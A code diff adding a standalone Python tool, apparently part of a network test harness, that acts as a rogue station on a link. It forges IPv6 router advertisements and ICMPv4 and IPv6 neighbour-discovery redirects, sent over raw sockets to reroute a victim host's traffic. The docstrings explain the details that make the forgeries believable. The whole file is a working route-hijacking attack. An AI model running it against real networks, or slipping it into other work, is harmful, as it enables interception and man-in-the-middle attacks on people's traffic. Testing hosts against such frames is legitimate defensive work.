@@ -1,0 +1,111 @@
+"""A hostile station on the outside network: the frames by which hosts are led astray.
+
+Stands alone (standard library only), as `partner` does:
+
+    python -I -S rogue.py LINK advertise SENDER PREFIX
+    python -I -S rogue.py LINK redirect VICTIM_MAC SENDER VICTIM DESTINATION NEXT_HOP [PORT PORT]
+
+1. `advertise` sends a router advertisement: a default route, an autonomous prefix, an MTU
+   (RFC 4861 §4.2).
+2. `redirect` tells the victim, in the name of SENDER, to reach DESTINATION by NEXT_HOP (RFC 792;
+   RFC 4861 §4.5). The IPv4 one quotes a datagram of the victim's, from the first port to the
+   second: nobody believes one without.
+"""
+
+from __future__ import annotations
+
+import socket
+import struct
+import sys
+from ipaddress import IPv4Address, IPv6Address
+
+ALL_NODES = IPv6Address("ff02::1")
+ETHERTYPES = {4: b"\x08\x00", 6: b"\x86\xdd"}
+LIFETIME_S = 1800
+
+
+def checksum(data: bytes) -> int:
+    """The Internet checksum (RFC 1071)."""
+    data += bytes(len(data) % 2)
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def icmpv6(source: IPv6Address, destination: IPv6Address, body: bytes) -> bytes:
+    """An IPv6 packet with an ICMPv6 body, its checksum filled in; hop limit 255 as ND wants it."""
+    pseudo = source.packed + destination.packed + struct.pack("!II", len(body), 58)
+    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
+    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
+    return head + source.packed + destination.packed + body
+
+
+def ipv4(source: IPv4Address, destination: IPv4Address, protocol: int, body: bytes) -> bytes:
+    """An IPv4 packet."""
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0)
+    head += source.packed + destination.packed
+    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body
+
+
+def advertisement(mac: bytes, sender: IPv6Address, prefix: IPv6Address) -> bytes:
+    """A router advertisement for a /64."""
+    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, LIFETIME_S, 0, 0)
+    body += struct.pack("!BB6s", 1, 1, mac)
+    body += struct.pack("!BBHI", 5, 1, 0, 1280)
+    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, LIFETIME_S, LIFETIME_S, 0) + prefix.packed
+    return icmpv6(sender, ALL_NODES, body)
+
+
+def redirect_v4(
+    sender: IPv4Address,
+    victim: IPv4Address,
+    destination: IPv4Address,
+    next_hop: IPv4Address,
+    ports: tuple[int, int],
+) -> bytes:
+    """An ICMP redirect for a host, quoting the victim's own datagram."""
+    quoted = ipv4(victim, destination, 17, struct.pack("!HHHH", *ports, 9, 0))
+    body = struct.pack("!BBH", 5, 1, 0) + next_hop.packed + quoted
+    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
+    return ipv4(sender, victim, 1, body)
+
+
+def redirect_v6(
+    mac: bytes,
+    sender: IPv6Address,
+    victim: IPv6Address,
+    destination: IPv6Address,
+    next_hop: IPv6Address,
+) -> bytes:
+    """An ND redirect with the next hop's link-layer address, which makes it believable."""
+    body = struct.pack("!BBHI", 137, 0, 0, 0) + next_hop.packed + destination.packed
+    return icmpv6(sender, victim, body + struct.pack("!BB6s", 2, 1, mac))
+
+
+def redirect(mac: bytes, *words: str) -> bytes:
+    """Either kind of redirect, from the words of the command line."""
+    if ":" in words[0]:
+        told, victim, destination, next_hop = map(IPv6Address, words[:4])
+        return redirect_v6(mac, told, victim, destination, next_hop)
+    sender, host, server, gateway = map(IPv4Address, words[:4])
+    return redirect_v4(sender, host, server, gateway, (int(words[4]), int(words[5])))
+
+
+def main() -> None:
+    """Sends one frame."""
+    link, what, *words = sys.argv[1:]
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
+        sock.bind((link, 0))
+        mac = sock.getsockname()[4]
+        if what == "advertise":
+            sender, prefix = map(IPv6Address, words)
+            to, packet = b"\x33\x33\0\0\0\1", advertisement(mac, sender, prefix)
+        else:
+            to = bytes.fromhex(words[0].replace(":", ""))
+            packet = redirect(mac, *words[1:])
+        sock.send(to + mac + ETHERTYPES[packet[0] >> 4] + packet)
+
+
+if __name__ == "__main__":
+    main()
